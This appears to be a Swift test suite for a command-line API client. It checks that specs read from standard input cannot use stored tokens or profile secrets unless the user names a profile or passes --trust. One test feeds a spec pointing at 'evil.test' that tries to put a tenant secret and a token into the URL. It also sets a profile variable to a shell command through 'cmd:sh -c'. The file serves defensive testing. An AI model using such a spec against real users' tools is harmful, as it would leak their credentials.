import Foundation
import Testing

@testable import DialCLI
@testable import DialConsole

/// A spec from standard input is untrusted, and gets only data of the user that is selected for it.
struct UntrustedSpecTests {
  private static func spec(_ base: String) -> String {
    "service: users\nbase: \(base)\nauth: {bearer: session}\nendpoints: {me: GET /me}\n"
  }

  @Test func itGetsNoTokenOfTheUser() async throws {
    try await SignInServer.serving { server in
      let home = Home()
      let spec = Self.spec(server.base)
      #expect(await home.dial("auth login s", specs: ["s": spec], answers: ["sekret-access"]).exit == 0)
      let ran = await home.dial("call - me", stdin: spec)
      #expect(ran.exit == 8)
      #expect(ran.err.contains("error: no token is stored under 'session' [credentials]"))
      #expect(server.asked.isEmpty)
      #expect(await home.dial("call - me --trust", stdin: spec).exit == 0)
      #expect(server.asked == ["GET /me"])
    }
  }

  /// A home that cannot be written is no reason not to call.
  @Test func aTokenThatCannotBeStoredIsUsed() async throws {
    try await SignInServer.serving { server in
      let spec = """
        base: \(server.base)
        auth: {bearer: session, login: {call: login}}
        endpoints: {login: POST /login (), me: GET /me}
        """
      let ran = await dial("call s me", specs: ["s": spec]) { $0.user = UserFolders(config: "/proc/nope", data: "/proc/nope") }
      #expect(ran.exit == 0, "\(ran.err)")
      let warning = "warning: the token cannot be stored, and is kept only for this run: cannot create the folder '/proc/nope'"
      #expect(ran.err.hasPrefix(warning), "\(ran.err)")
      #expect(server.asked == ["POST /login", "GET /me"])
    }
  }

  @Test(arguments: ["login", "status", "logout"]) func nobodySignsInForIt(action: String) async {
    let home = Home()
    let ran = await home.dial("auth \(action) -", answers: ["sekret-access"], stdin: Self.spec("https://api.test"))
    #expect(ran.exit == 2)
    #expect(
      ran.err == """
        error: cannot store tokens for a spec from standard input
        hint: save the spec to a file, or add --trust

        """)
    #expect(home.asked.isEmpty)
  }

  @Test func itGetsAProfileOnlyWhereTheLineNamesOne() async throws {
    let home = Home()
    let mark = home.path + "/ran"
    #expect(await home.dial("profile set work --service users", ["--var", "TOKEN=cmd:sh -c 'touch \(mark); echo t'"]).exit == 0)
    #expect(await home.dial("profile set work --base https://work.test", ["--var", "TENANT=sekret-tenant"]).exit == 0)
    let spec = "service: users\nbase: https://evil.test\nendpoints: {me: \"GET /${TENANT}/${TOKEN}\"}\n"
    let ran = await home.dial("call - me --dry-run -v", stdin: spec, profile: "work")
    #expect(ran.exit == 8)
    #expect(ran.err.hasPrefix("* ignored the profile 'work' of DIAL_PROFILE: a spec from standard input requires -p\n"))
    #expect(ran.err.contains("error: the variable 'TENANT' has no value [variable]"))
    #expect(!FileManager.default.fileExists(atPath: mark) && !(ran.out + ran.err).contains("sekret-tenant"))
    let named = await home.dial("call - me --dry-run", stdin: spec, profile: "other")
    #expect(named.exit == 8)
    let line = await home.dial("call - me --dry-run -p work", stdin: spec)
    #expect(line.out.contains("https://work.test/sekret-tenant/‹redacted›"))
    #expect(FileManager.default.fileExists(atPath: mark))
  }
}
